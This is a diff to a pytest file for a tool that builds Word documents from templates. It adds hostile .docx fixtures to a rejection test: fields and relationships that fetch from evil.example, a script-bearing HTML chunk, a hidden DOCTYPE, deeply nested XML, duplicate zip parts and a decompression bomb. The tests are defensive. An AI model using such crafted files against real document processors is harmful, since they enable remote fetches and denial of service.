@@ -1,12 +1,15 @@
 """Papers: words into a Word file, numbers that are given once, templates that are not trusted."""
 
 import re
+import warnings
+import zipfile
+from io import BytesIO
 from xml.dom import minidom
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from paper_files import document, paragraphs, said, zipped
+from paper_files import W, document, paragraphs, said, zipped
 
 from perut_cli.core.errors import Conflict, Invalid, Usage
 from perut_cli.core.numbering import Number, next_number, usable, written
@@ -210,6 +213,16 @@ def test_a_shipped_template_in_indonesian_words_gives_the_same_paper(kind, to):
     assert fill(translated, full) == fill(parts, full)
 
 
+def twice(parts: dict[str, bytes]) -> bytes:
+    """A file whose parts stand in it twice."""
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        for name, data in [*parts.items(), *parts.items()]:
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
 REL = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="r1" Type="http://x/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
@@ -234,6 +247,29 @@ HOSTILE = {
         {**GOOD, "word/_rels/document.xml.rels": REL.format(kind="image").encode()}
     ),
     "a field that runs": zipped(FIELD),
+    "a field that runs, by another prefix": zipped(
+        {
+            package.BODY: f'<x:document xmlns:x="{W}"><x:body><x:p><x:r><x:instrText>INCLUDETEXT '
+            "http://evil.example/x</x:instrText></x:r></x:p></x:body></x:document>".encode()
+        }
+    ),
+    "a simple field that fetches": zipped(
+        document('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x "/></w:p>')
+    ),
+    "relationships in capitals": zipped(
+        {**GOOD, "word/_rels/settings.xml.RELS": REL.format(kind="attachedTemplate").encode()}
+    ),
+    "a page of HTML": zipped({**GOOD, "word/afchunk.html": b"<script>x</script>"}),
+    "a document type hidden by its encoding": zipped(
+        {
+            package.BODY: '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode(
+                "utf-16-be"
+            )
+        }
+    ),
+    "two parts of one name": twice(GOOD),
+    "elements without end": zipped({package.BODY: b"<a>" * 100_000 + b"</a>" * 100_000}),
+    "a million elements": zipped({package.BODY: b"<a>" + b"<b/>" * 1_000_000 + b"</a>"}),
     "a bomb": zipped({**GOOD, "word/media/a.xml": b"0" * (21 << 20)}),
     "no document in it": zipped({"a.xml": b"<a/>"}),
     "broken XML": zipped({package.BODY: b"<w:document"}),
